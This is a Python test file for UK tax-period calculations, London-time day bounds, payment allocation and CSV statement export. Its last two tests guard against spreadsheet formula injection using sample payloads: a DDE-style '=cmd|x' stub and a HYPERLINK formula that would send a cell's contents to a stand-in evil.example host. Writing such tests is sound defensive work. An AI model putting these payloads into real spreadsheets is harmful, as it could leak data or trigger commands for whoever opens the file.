"""Weeks, tax months, quarters and years: every day in exactly one of each, on the circle's own calendar."""

import csv
import io
import re
from datetime import UTC, date, datetime, timedelta
from zoneinfo import ZoneInfo

from hypothesis import given, settings
from hypothesis import strategies as st

from eccoo_node.papers import due, rules
from eccoo_node.papers.rules import Period, paid_of
from eccoo_node.papers.sheet import Block, Row, Sheet, Table, as_csv, days, sum_of

LONDON = ZoneInfo("Europe/London")
DAYS = st.dates(date(2000, 1, 1), date(2100, 12, 31))


@given(DAYS)
def test_each_day_lies_in_one_of_each_and_they_lie_within_each_other(day: date) -> None:
    year, quarter, month, week = rules.tax_year(day), rules.tax_quarter(day), rules.tax_month(day), rules.week(day)
    for period, of in (
        (year, rules.tax_year),
        (quarter, rules.tax_quarter),
        (month, rules.tax_month),
        (week, rules.week),
    ):
        assert period.first <= day <= period.last
        assert of(period.first) == of(period.last) == period
        assert of(period.last + timedelta(days=1)).first == period.last + timedelta(days=1)
    assert year.first <= quarter.first <= month.first
    assert month.last <= quarter.last <= year.last
    assert (quarter.first.month, quarter.first.day) in {(4, 6), (7, 6), (10, 6), (1, 6)}
    assert (week.first.weekday(), (week.last - week.first).days) == (0, 6)
    assert rules.month(day) == Period(day.replace(day=1), rules.month(day).last)
    assert (rules.month(day).last + timedelta(days=1)).day == 1


@settings(max_examples=200)
@given(st.datetimes(datetime(2000, 1, 1), datetime(2100, 1, 1)))  # noqa: DTZ001 - a moment in UTC
def test_each_moment_lies_within_the_bounds_of_its_day_and_of_no_other(naive: datetime) -> None:
    moment = naive.replace(tzinfo=UTC)
    day = rules.local_day(moment, LONDON)
    for period in (Period(day, day), rules.week(day), rules.tax_year(day)):
        start, end = period.bounds(LONDON)
        assert start.astimezone(UTC) <= moment < end.astimezone(UTC)


def test_the_year_turns_at_the_circles_own_midnight_and_not_at_that_of_utc() -> None:
    """5 April 2026 at 23:30 by UTC is half past midnight on the 6th in Hebden Bridge, where it is summer already."""
    late = datetime(2026, 4, 5, 23, 30, tzinfo=UTC)
    assert rules.tax_year(rules.local_day(late, LONDON)).first == date(2026, 4, 6)
    assert rules.tax_year(rules.local_day(late - timedelta(hours=1), LONDON)).first == date(2025, 4, 6)
    hours = [
        (end.astimezone(UTC) - start.astimezone(UTC)) / timedelta(hours=1)
        for start, end in (
            Period(day, day).bounds(LONDON) for day in (date(2026, 3, 29), date(2026, 10, 25), date(2026, 4, 5))
        )
    ]
    assert hours == [23, 25, 24]


def test_invoices_come_each_four_weeks_and_statements_early_on_monday() -> None:
    weeks = [rules.week(date(2026, 11, 23) + timedelta(weeks=n)) for n in range(8)]
    assert [sum(rules.ends_a_run(week, n) for week in weeks) for n in (1, 2, 4)] == [8, 4, 2]
    early = datetime(2026, 11, 23, 5, tzinfo=LONDON)
    assert due.next_run(early - timedelta(minutes=1)) == early
    assert due.next_run(early) == early + timedelta(days=7)
    assert due.next_run(datetime(2027, 4, 5, 12, tzinfo=LONDON)) == datetime(2027, 4, 6, 5, tzinfo=LONDON)


@given(st.lists(st.integers(-500, 1000)), st.integers(0, 5000))
def test_what_came_in_pays_the_oldest_first_and_nothing_twice(owed: list[int], came: int) -> None:
    parts = paid_of(owed, came)
    assert all(part == pence if pence < 0 else 0 <= part <= pence for part, pence in zip(parts, owed, strict=True))
    there = came - sum(pence for pence in owed if pence < 0)
    asked = sum(pence for pence in owed if pence > 0)
    assert sum(part for part in parts if part > 0) == min(there, asked)
    short = [part < pence for part, pence in zip(parts, owed, strict=True) if pence > 0]
    # Once one is short the next have nothing.
    first = short.index(True) if True in short else len(short)
    assert [part for part, pence in zip(parts, owed, strict=True) if pence > 0][first + 1 :] == [0] * len(
        short[first + 1 :]
    )


def test_days_and_sums_are_said_short_and_a_spreadsheet_reckons_nothing_by_itself() -> None:
    said = [days(Period(*two)) for two in (
        (date(2026, 11, 23), date(2026, 11, 29)), (date(2026, 11, 30), date(2026, 12, 6)),
        (date(2026, 12, 28), date(2027, 1, 3)), (date(2027, 4, 5), date(2027, 4, 5)),
    )]  # fmt: skip
    assert said == [
        "23 to 29 November 2026", "30 November to 6 December 2026", "28 December 2026 to 3 January 2027", "5 April 2027",
    ]  # fmt: skip
    assert [sum_of(pence) for pence in (0, 5, -123_456)] == ["£0.00", "£0.05", "−£1,234.56"]
    sheet = Sheet(
        title="Statement", circle=["C"], to=["=cmd|x"], facts=[("Week", "one")], lead=[],
        blocks=[Block("=HYPERLINK(1)", rows=[Row("@x: +1", "−£1,234.56", "a, “b”")], total=Row("All", "£5.00"))], foot=["-end"],
    )  # fmt: skip
    assert as_csv(sheet, "S-1").split("\r\n") == [
        "Statement,S-1", "Week,one", "", "'=HYPERLINK(1)", "'@x: +1,-1234.56,\"a, “b”\"", "All,5.00,", "", "'-end", "",
    ]  # fmt: skip


@given(
    st.one_of(
        st.builds("{}{}".format, st.sampled_from(["£", "−£", "££", "£,", " ", "\t", "£−", ""]), st.text(max_size=20)),
        st.builds(
            "{}{}".format,
            st.text("£−,=+-@ \t\r\n", max_size=4),
            st.just('=HYPERLINK("http://evil.example/"&B2;"Click")'),
        ),
        st.integers(-(10**9), 10**9).map(sum_of),
    )
)
def test_in_a_spreadsheet_a_cell_is_a_sum_or_words_and_never_something_to_reckon(cell: str) -> None:
    sheet = Sheet(
        title="S", circle=[], to=[], facts=[(cell, cell)], lead=[], foot=[cell],
        blocks=[Block("B", rows=[Row(cell, cell, cell)], tables=[Table("B", ["A"], [[cell]])])],
    )  # fmt: skip
    rows = list(csv.reader(io.StringIO(as_csv(sheet, cell), newline="")))
    put = {found for row in rows for found in row} - {"S", "B", "A", ""}
    for found in put:
        is_sum = re.fullmatch(r"-?[0-9]+(\.[0-9]{2})?", found)
        # What is words stays whole, sign and all.
        assert is_sum or (found[0] not in "=+-@\t\r\n" and found.removeprefix("'") == cell)
